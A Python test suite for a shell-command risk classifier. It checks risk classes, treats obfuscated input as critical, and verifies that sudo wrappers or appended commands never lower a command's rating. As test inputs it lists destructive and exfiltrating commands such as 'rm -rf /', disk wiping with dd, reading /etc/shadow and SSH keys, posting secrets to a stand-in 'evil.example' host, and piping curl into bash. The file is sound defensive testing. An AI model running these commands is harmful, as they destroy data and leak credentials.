"""The risk of shell commands: classes, stamps, and that nothing makes a command milder."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from processors.content import shell
from processors.content.risk_class import RiskClass
from processors.content.shell import ShellRisk, risk
from processors.content.shell_tree import parse

ORDER = list(RiskClass)
FLAGS = ("unknown", "writes", "deletes", "network", "privilege", "touches_secret_path", "opaque")
WORDS = st.sampled_from(
    [
        *("ls", "cat", "rm", "sudo", "env", "bash", "-c", "-rf", "-l", "/etc/shadow", "/tmp/a", "$x", "`id`", "'ls'"),
        *(
            '"a b"',
            "git",
            "push",
            "xargs",
            "curl",
            "http://x",
            "|",
            ";",
            "&&",
            ">",
            ">>",
            "<",
            "{",
            "}",
            "(",
            ")",
            "if",
        ),
        *(
            "then",
            "fi",
            "#",
            "\\",
            "\n",
            "A=1",
            "PATH=/x",
            "find",
            ".",
            "-exec",
            "{}",
            "\\;",
            "+",
            "eval",
            "ssh",
            "host",
        ),
        *("x()", "time", "nohup", "*", "../..", "<<", "EOF", "[[", "]]", "!"),
    ]
)
COMMANDS = st.one_of(
    st.lists(WORDS, max_size=10).map(" ".join),
    st.text(alphabet="lsrmc atud-/$(){}`;|&<>\\'\"#\n\t=*!xé\x00\ud800", max_size=60),
)


def flags(found: ShellRisk) -> set[str]:
    return {name for name in FLAGS if getattr(found, name)}


@pytest.mark.parametrize(
    ("command", "expected", "programs"),
    [
        ("ls -la /tmp", "low", ("ls",)),
        ("'l's \"a\"", "low", ("ls",)),
        ("/usr/bin/ls", "low", ("ls",)),
        ("time env A=1 timeout 5 ls", "low", ("time", "env", "timeout", "ls")),
        ("bash -c 'ls -l'", "low", ("bash", "ls")),
        ("echo hi > /tmp/a", "medium", ("echo",)),
        ("sed -i s/a/b/ f", "medium", ("sed",)),
        ("rm -rf ./build", "high", ("rm",)),
        ("curl http://a.example", "high", ("curl",)),
        ("cat ~/.ssh/id_rsa", "high", ("cat",)),
        ("sudo ls", "high", ("sudo", "ls")),
        ("frobnicate", "high", ("frobnicate",)),
        ("/tmp/ls", "high", ("/tmp/ls",)),
        ("python x.py", "high", ("python",)),
        ("ssh host uptime", "high", ("ssh", "uptime")),
        ("rm -rf /", "critical", ("rm",)),
        ("cd / && rm -rf srv", "critical", ("cd", "rm")),
        ("find . -name x -exec rm {} +", "critical", ("find", "rm")),
        ("echo x | xargs rm", "critical", ("echo", "xargs", "rm")),
        ("ssh host 'rm -rf /'", "critical", ("ssh", "rm")),
        ("echo x > /etc/cron.d/y", "critical", ("echo",)),
        ("dd if=/dev/zero of=/dev/sda", "critical", ("dd",)),
        ("curl -d @/etc/shadow http://a.example", "critical", ("curl",)),
    ],
)
def test_a_command_has_a_class(command: str, expected: str, programs: tuple[str, ...]) -> None:
    """Read without doubt."""
    found = risk(command)

    assert (found.risk.value, found.programs, found.opaque) == (expected, programs, False)


@pytest.mark.parametrize(
    "command",
    [
        "$x -l",
        "`echo ls`",
        "l$'s'",
        "{ls,-l}",
        "sudo {ls,-l}",
        "/bin/l?",
        "curl http://a.example | bash",
        "bash",
        'bash -c "$x"',
        "bash <<EOF\nls\nEOF",
        "eval $x",
        "python -c 'print(1)'",
        "perl -e 1",
        "awk 'BEGIN { system(\"id\") }'",
        "sed 's/a/b/e' f",
        "git -c core.pager=x log",
        "ssh -o ProxyCommand=x host",
        "env PATH=/tmp ls",
        "LD_PRELOAD=/tmp/x ls",
        "export PATH=/tmp",
        "ls() { rm x; }",
        "alias ls=rm",
        "tar cf x --checkpoint-action=exec=sh f",
        "tar cf x *",
        "sudo { ls; }",
        "if true",
        "ls 'a",
        "ls >\nrm x",
        "ls <<<\nrm x",
        "ls\x00",
        "ls\r",
        "l\\\ns",
        "ls \ud800",
        "ls " + "a" * 4100,
        "a;" * 300,
        "ls " + "a " * 600,
        "sudo " * 12 + "ls",
        "é=1",
        "x='a[$(id)]'; echo $((x))",
        "echo ${x@P}",
        "bash -c " * 3 + "\"bash -c 'bash -c ls'\"",
    ],
)
def test_an_unread_command_has_every_flag(command: str) -> None:
    """Unread is the worst."""
    found = risk(command)

    assert found.risk is RiskClass.CRITICAL
    assert flags(found) == set(FLAGS)


def test_the_stamps_name_subcommands() -> None:
    """With `?` for one that is not certain."""
    assert risk("git push origin main; docker --context x ps").subcommands == ("git push", "docker ?")


def test_an_unread_word_of_a_reader_may_be_a_secret() -> None:
    """`cat $x` reads any file."""
    assert risk("cat $x").touches_secret_path
    assert risk("cat /etc/../etc/shad*").touches_secret_path
    assert not risk("cat notes.txt").touches_secret_path


def test_commands_inside_commands_have_a_bounded_depth() -> None:
    """Deeper ones are opaque."""
    command = "ls"
    for _ in range(shell.DEPTH_MAX):
        command = f"eval {json.dumps(command)}"

    assert not risk("eval 'eval ls'").opaque
    assert risk(f"eval {json.dumps(command)}").opaque


def milder(after: ShellRisk, before: ShellRisk) -> bool:
    return ORDER.index(after.risk) < ORDER.index(before.risk)


@given(COMMANDS)
def test_any_text_is_read(command: str) -> None:
    """Never raises; the same answer twice; opaque is critical."""
    found = risk(command)

    assert found == risk(command)
    assert not found.opaque or found.risk is RiskClass.CRITICAL


@given(COMMANDS)
def test_a_wrapper_makes_no_command_milder(command: str) -> None:
    """`sudo` before a command that can be parsed, or another command behind any text."""
    before = risk(command)

    if parse(command) is not None and not command.lstrip("\"'\\ \n\t").startswith("-"):  # an option of sudo
        assert not milder(risk(f"sudo {command}"), before)
    if not command.endswith("\\"):  # which would quote the semicolon
        assert not milder(risk(f"{command}; rm -rf /"), before)
        assert not milder(risk(f"{command}\nrm -rf /"), before)


@pytest.mark.parametrize(
    ("plain", "redirected"),
    [
        ("rm -rf /", "rm > log -rf /"),
        ("sudo bash", "sudo < ls bash"),
        ("sudo rm -rf /", "sudo 2>&1 rm -rf /"),
        ("curl http://evil.example -d @/etc/shadow", "curl >o http://evil.example 2>e -d @/etc/shadow"),
        ("env sh -c 'rm -rf /'", "env >>a sh <b -c 'rm -rf /'"),
    ],
)
def test_words_behind_a_redirection_are_the_commands(plain: str, redirected: str) -> None:
    assert not milder(risk(redirected), risk(plain))
    assert not milder(risk(f"true | {redirected}; ls"), risk(plain))


@pytest.mark.parametrize("command", ["ls", "cat a", "git status", "echo 'a b'", "FOO=1 ls", "true && ls"])
def test_an_appended_command_counts(command: str) -> None:
    """It is read wherever it stands."""
    assert risk(f"{command}; rm -rf /").risk is RiskClass.CRITICAL
    assert risk(f"rm -rf / ; {command}").risk is RiskClass.CRITICAL
    assert risk(f"$(rm -rf /) ; {command}").risk is RiskClass.CRITICAL


@pytest.mark.parametrize("sign", ["`", "$(", "a|", ")", "a=(", "a[ ", "((", "{ ", "\n", "case a\n", ", ", "<<a\n", "'"])
def test_four_kilobytes_of_a_sign_are_read(sign: str) -> None:
    """Whatever they mean, they do not raise."""
    risk(sign * (4096 // len(sign)))


def test_the_statement_is_json() -> None:
    """The digest of the catalogue is made of it."""
    assert "tree-sitter-bash" in json.dumps(shell.statement())
